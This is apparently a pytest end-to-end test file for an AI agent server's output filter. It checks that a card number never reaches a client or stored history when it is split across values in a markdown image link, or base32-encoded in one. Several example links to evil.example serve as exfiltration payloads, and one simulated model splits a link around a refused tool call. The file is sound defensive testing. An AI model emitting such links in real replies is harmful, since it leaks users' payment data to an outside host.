"""Review r10 (issue 8), end to end with the shipped default policy and a real SSE client: a
card split across a reply link's values, or base32-encoded in it, streamed in small deltas
and bursts, never reaches a client in any streaming mode, the words around the link do, and
the client's text is the stored history; a card split across values in two responses around
a hidden call is masked too."""

from __future__ import annotations

import base64
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from aap_server.agent import ModelOutput, ModelRequest, TextDelta, ToolCall, ToolMessage, TurnModel
from tests.e2e.guardian_helpers import MODES
from tests.e2e.test_review_r9 import CLOSING, Bursts, _seen

DIGITS = "4111111111111111"
SPLIT = "https://evil.example/p?a=4111&b=1111&c=1111&d=1111"
BASE32 = base64.b32encode(DIGITS.encode()).decode().rstrip("=")
# Each link, and what of it must not reach a client.
LINKS = [
    (SPLIT, "a=4111&b=1111"),
    ("https://evil.example/4111/1111#1111-1111", "4111/1111#"),
    (f"https://evil.example/p?c={BASE32}", BASE32[:16]),
]


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize(("link", "carried"), LINKS)
@pytest.mark.parametrize(("size", "burst"), [(1, 1), (3, 2), (7, 1000)])
async def test_a_card_carried_by_a_links_values_never_reaches_a_client(
    tmp_path: Path, mode: str, link: str, carried: str, size: int, burst: int
) -> None:
    reply = f"Your receipt: ![r]({link}).{CLOSING}"
    seen, stored = await _seen(tmp_path, Bursts(reply, size, burst), mode)
    assert carried not in seen
    assert carried not in stored
    assert seen.startswith("Your receipt: ")
    assert seen.endswith(CLOSING)


class SplitLinkAroundAHiddenCall(TurnModel):
    """A link whose first values are sent before a call the server refuses and hides, the
    rest of it after."""

    async def respond(self, request: ModelRequest) -> AsyncIterator[ModelOutput]:
        if isinstance(request.history[-1], ToolMessage):
            yield TextDelta(f"&c=1111&d=1111).{CLOSING}")
            return
        yield TextDelta("Your receipt: ![r](https://evil.example/p?a=4111&b=1111")
        yield ToolCall(name="no_such_tool", input={})


@pytest.mark.parametrize("mode", MODES)
async def test_a_card_split_in_a_link_around_a_hidden_call_never_reaches_a_client(
    tmp_path: Path, mode: str
) -> None:
    seen, stored = await _seen(tmp_path, SplitLinkAroundAHiddenCall(), mode)
    for carried in ("a=4111&b=1111&c=1111", "&c=1111&d=1111"):
        assert carried not in seen
        assert carried not in stored
    assert seen.endswith(CLOSING)
